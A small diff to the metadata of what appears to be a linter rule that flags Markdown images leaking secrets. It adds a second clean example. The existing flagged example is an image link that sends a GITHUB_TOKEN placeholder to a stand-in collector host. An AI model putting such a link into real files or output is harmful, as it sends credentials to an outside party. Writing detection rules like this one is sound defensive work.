@@ -14,7 +14,7 @@ export const meta: RuleMeta = {
   example: {bad: '![status](https://collector.example/p.png?d={{GITHUB_TOKEN}})', good: '![build](https://ci.example/badge.svg?branch=main)'},
   examples: {
     flagged: [{text: '![status](https://collector.example/p.png?d={{GITHUB_TOKEN}})\n', file: 'README.md'}],
-    clean: [{text: '![build](https://ci.example/badge.svg?branch=main)\n', file: 'README.md'}],
+    clean: [{text: '![build](https://ci.example/badge.svg?branch=main)\n', file: 'README.md'}, {text: '![logo](docs/logo.png)\n', file: 'README.md'}],
   },
 }
 
